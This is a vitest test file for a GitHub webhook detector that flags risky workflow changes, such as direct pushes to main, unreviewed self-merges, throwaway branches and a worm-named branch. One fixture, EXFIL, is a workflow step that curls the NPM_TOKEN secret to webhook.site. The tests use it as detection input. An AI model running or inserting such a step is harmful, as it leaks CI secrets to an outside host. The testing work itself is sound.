import { describe, expect, it } from 'vitest';
import { push, pullRequest, review, simple, workflowRun } from '../../simulate/payloads.js';
import { MIN, HOUR, Scenario, T0 } from '../../testing.js';

const repo = { org: 'acme', name: 'api', visibility: 'private' as const };
const sha = (c: string): string => c.repeat(40);
const wf = '.github/workflows/ci.yml';
const EXFIL = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "${{ secrets.NPM_TOKEN }}" https://webhook.site/x\n';
const BENIGN = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n';

function directPush(s: Scenario, at: number, o: { ref?: string; pusher?: string; after?: string; created?: boolean; file?: string; change?: 'added' | 'modified' } = {}): Scenario {
  const after = o.after ?? sha('b');
  const file = o.file ?? wf;
  return s.hook('push', push(repo, { ref: o.ref ?? 'refs/heads/main', before: sha('a'), after, pusher: o.pusher ?? 'mallory', created: o.created ?? false, commits: [{ id: after, [o.change ?? 'modified']: [file] }], at }), at);
}

describe('workflow-pushed', () => {
  it('reports a direct push of a workflow change to the default branch', async () => {
    const res = await directPush(new Scenario(), T0).run();
    expect(res.summary()).toEqual(['workflow-pushed high: Workflow changed on main by a direct push']);
    expect(res.alerts[0]!.summary).toBe('mallory changed .github/workflows/ci.yml on acme/api@main (commit bbbbbbbbbbbb) by a direct push.');
  });

  it('is critical when the static audit of the pushed workflow finds exfiltration', async () => {
    const res = await directPush(new Scenario().content('acme/api', sha('b'), wf, EXFIL), T0).run();
    expect(res.summary()).toEqual(['workflow-pushed critical: Workflow changed on main by a direct push']);
    expect(res.alerts[0]!.summary).toContain('secret-exfiltration at .github/workflows/ci.yml:6');
  });

  it('stays silent for a workflow merged through a reviewed pull request, whichever event arrives first', async () => {
    const merge = sha('c');
    const pr = (at: number): Record<string, unknown> => pullRequest(repo, { action: 'closed', number: 7, author: 'dependabot[bot]', head: 'dependabot/github_actions/x', headSha: sha('d'), merged: true, mergedBy: 'alice', mergeSha: merge, sender: 'alice', at });
    const a = await directPush(new Scenario().hook('pull_request', pr(T0), T0), T0 + 2000, { after: merge, pusher: 'alice' }).run();
    const b = await directPush(new Scenario(), T0, { after: merge, pusher: 'alice' }).hook('pull_request', pr(T0 + 5000), T0 + 5000).run();
    expect(a.alerts).toEqual([]);
    expect(b.alerts).toEqual([]);
  });

  it('reports a pull request merged by its own author without an approving review', async () => {
    const merge = sha('c');
    const res = await directPush(
      new Scenario().hook('pull_request', pullRequest(repo, { action: 'closed', number: 8, author: 'bob', head: 'f', headSha: sha('d'), merged: true, mergedBy: 'bob', mergeSha: merge, sender: 'bob', at: T0 }), T0),
      T0 + 1000,
      { after: merge, pusher: 'bob' },
    ).run();
    expect(res.summary()).toEqual(['workflow-pushed high: Workflow changed on main by merged pull request #8 without an approving review']);
  });

  it('accepts a self-merged pull request that someone else approved', async () => {
    const merge = sha('c');
    const res = await directPush(
      new Scenario()
        .hook('pull_request_review', review(repo, { number: 9, reviewer: 'carol', state: 'approved', at: T0 - MIN }), T0 - MIN)
        .hook('pull_request', pullRequest(repo, { action: 'closed', number: 9, author: 'bob', head: 'f', headSha: sha('d'), merged: true, mergedBy: 'bob', mergeSha: merge, sender: 'bob', at: T0 }), T0),
      T0 + 1000,
      { after: merge, pusher: 'bob' },
    ).run();
    expect(res.alerts).toEqual([]);
  });

  it('ignores feature-branch workflow edits and bot release commits without workflows', async () => {
    const s = directPush(new Scenario().content('acme/api', sha('b'), wf, BENIGN), T0, { ref: 'refs/heads/feature/cache', pusher: 'dev', created: true });
    s.hook('push', push(repo, { ref: 'refs/heads/main', before: sha('b'), after: sha('e'), pusher: 'release-bot', commits: [{ id: sha('e'), modified: ['package.json', 'CHANGELOG.md'] }], at: T0 + HOUR }), T0 + HOUR);
    expect((await s.run()).alerts).toEqual([]);
  });

  it('reports a branch push whose workflow sends secrets out, and a worm branch', async () => {
    const exfil = await directPush(new Scenario().content('acme/api', sha('b'), wf, EXFIL), T0, { ref: 'refs/heads/tmp', created: true }).run();
    expect(exfil.summary()).toEqual(['workflow-pushed critical: Workflow that exposes secrets pushed to branch tmp']);
    const worm = await directPush(new Scenario(), T0, { ref: 'refs/heads/shai-hulud', created: true, file: '.github/workflows/shai-hulud-workflow.yml', change: 'added' }).run();
    expect(worm.summary()).toEqual(['workflow-pushed critical: Workflow matching Shai-Hulud (npm worm, September 2025) (shai-hulud-workflow-2025-09) pushed to branch shai-hulud']);
  });

  it('reports a branch that added a workflow, ran it and was deleted within a day without a pull request', async () => {
    const s = new Scenario().hook('create', simple(repo, 'github-actions[bot]', { ref: 'x', ref_type: 'branch' }), T0);
    directPush(s, T0 + 1000, { ref: 'refs/heads/x', pusher: 'github-actions[bot]', created: true, change: 'added', file: '.github/workflows/x.yml' });
    s.hook('workflow_run', workflowRun(repo, { action: 'completed', runId: 55, name: 'x', path: '.github/workflows/x.yml', headSha: sha('b'), branch: 'x', event: 'push', actor: 'github-actions[bot]', at: T0 + 3 * MIN }), T0 + 3 * MIN);
    s.hook('delete', simple(repo, 'github-actions[bot]', { ref: 'x', ref_type: 'branch' }), T0 + 15 * MIN);
    const res = await s.run();
    expect(res.summary()).toEqual(['workflow-pushed critical: Workflow pushed on branch x, which was deleted 15 minutes after it was created, without a pull request']);
    expect(res.alerts[0]!.evidence.map((e) => e.id)).toEqual(['guid-2', 'guid-3', 'guid-4']);
  });

  it('does not report a short-lived branch that had a pull request, or a dependabot branch', async () => {
    const s = new Scenario().hook('create', simple(repo, 'dev', { ref: 'y', ref_type: 'branch' }), T0);
    directPush(s, T0 + 1000, { ref: 'refs/heads/y', pusher: 'dev', created: true });
    s.hook('pull_request', pullRequest(repo, { action: 'opened', number: 3, author: 'dev', head: 'y', headSha: sha('b'), sender: 'dev', at: T0 + 2 * MIN }), T0 + 2 * MIN);
    s.hook('delete', simple(repo, 'dev', { ref: 'y', ref_type: 'branch' }), T0 + 10 * MIN);
    const d = new Scenario().hook('create', simple(repo, 'dependabot[bot]', { ref: 'dependabot/github_actions/a', ref_type: 'branch' }), T0);
    directPush(d, T0 + 1000, { ref: 'refs/heads/dependabot/github_actions/a', pusher: 'dependabot[bot]', created: true });
    d.hook('delete', simple(repo, 'dependabot[bot]', { ref: 'dependabot/github_actions/a', ref_type: 'branch' }), T0 + 10 * MIN);
    expect((await s.run()).alerts).toEqual([]);
    expect((await d.run()).alerts).toEqual([]);
  });
});
